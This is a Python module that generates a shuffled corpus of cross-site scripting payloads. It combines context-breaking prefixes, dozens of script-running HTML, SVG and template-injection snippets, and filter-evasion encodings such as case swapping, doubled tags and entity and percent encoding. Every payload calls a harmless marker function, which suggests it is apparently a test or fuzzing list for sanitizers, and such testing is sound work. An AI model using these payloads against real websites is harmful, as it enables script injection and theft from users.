"""What somebody types who wants their words to come alive in another's browser: markup that calls `ran()`.

Each payload leaves a place where words may stand (PLACES), then does something that browsers run (TECHNIQUES), in one
of the coats under which filters have let it through (COATS). Where nothing is escaped most of them run.
"""

import random
import re
from collections.abc import Callable
from html import escape
from urllib.parse import quote

# What ends the place in which the words stand.
PLACES = {
    "text": "",
    "double quotes": '">',
    "single quotes": "'>",
    "no quotes": " x>",
    "text area": "</textarea>",
    "title": "</title>",
    "style": "</style>",
    "script": "</script>",
    "comment": "-->",
    "option": "</option></select>",
    "template": "</template>",
    "inert": "</noscript></iframe></xmp>",
}
TECHNIQUES = {
    "script": "<script>ran()</script>",
    "script by address": '<script src="data:text/javascript,ran()"></script>',
    "script in a module": '<script type="module">ran()</script>',
    "image": '<img src="x:" onerror="ran()">',
    "image without quotes": "<img src=x: onerror=ran()>",
    "image in an image": '<svg><image href="x:" onerror="ran()"></image></svg>',
    "drawing": '<svg onload="ran()"></svg>',
    "drawing's script": "<svg><script>ran()</script></svg>",
    "drawing that begins": '<svg><animate onbegin="ran()" attributeName="x" dur="1s"></animate></svg>',
    "drawing that sets": '<svg><set onbegin="ran()" attributeName="x" to="1"></set></svg>',
    "focus": '<input autofocus onfocus="ran()">',
    "focus by a tab index": '<b tabindex="1" autofocus onfocus="ran()">x</b>',
    "details": '<details open ontoggle="ran()">x</details>',
    "frame": '<iframe src="javascript:parent.ran()"></iframe>',
    "frame of its own": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "frame that loads": '<iframe onload="ran()"></iframe>',
    "object": '<object data="x:" onerror="ran()"></object>',
    "video": '<video src="x:" onerror="ran()"></video>',
    "video's source": '<video><source src="x:" onerror="ran()"></video>',
    "sound": '<audio src="x:" onerror="ran()"></audio>',
    "style that moves": '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="ran()">x</b>',
    "style sheet": '<link rel="stylesheet" href="x:" onerror="ran()">',
    "markup that changes": '<noscript><p title="</noscript><img src=x: onerror=ran()>"></p></noscript>',
    "foreign markup": '<math><mtext><table><mglyph><style><img src="x:" onerror="ran()"></style></table></math>',
    "attribute": 'x" autofocus onfocus="ran()" x="',
    "attribute in single quotes": "x' autofocus onfocus='ran()' x='",
    "address": '<a href="javascript:ran()" autofocus onfocus="ran()">x</a>',
    "another address for all": '<base href="data:text/javascript,"><script src="ran()"></script>',
    "way out": '<meta http-equiv="refresh" content="0;url=javascript:ran()"><script>ran()</script>',
    "words of a template": "{{ cycler.__init__.__globals__ }}{% print(7*7) %}${7*7}<%= 7 %>%(x)s<script>ran()</script>",
}
_TAG = re.compile(r"<[^<>]+>")
COATS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "capitals": lambda text: re.sub(r"(?<=<)/?[a-z]+", lambda found: found[0].swapcase(), text),
    "slashes": lambda text: _TAG.sub(lambda found: found[0].replace(" ", "/", 1), text),
    "lines": lambda text: _TAG.sub(lambda found: found[0].replace(" ", "\n", 1), text),
    "unclosed": lambda text: re.sub(r"</(\w+)>$", r"</\1 ", text),
    "doubled": lambda text: text.replace("<script", "<scr<script>ipt").replace("</script", "</scr</script>ipt"),
    "escaped": escape,  # for whoever takes it apart once more
    "escaped twice": lambda text: escape(escape(text)),
    "numbers": lambda text: text.replace("<", "&#x3c;").replace(">", "&#62;"),
    "percent": lambda text: quote(text, safe=" "),
    "wide": lambda text: text.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
    "as JSON": lambda text: text.replace("<", "\\u003c").replace('"', '\\"'),
}


def _all() -> list[str]:
    """Every combination, once, in an order in which any beginning is a fair sample."""
    made = {
        coat(leave + technique): None
        for coat in COATS.values()
        for leave in PLACES.values()
        for technique in TECHNIQUES.values()
    }
    payloads = list(made)
    random.Random(1).shuffle(payloads)
    return payloads


PAYLOADS = _all()
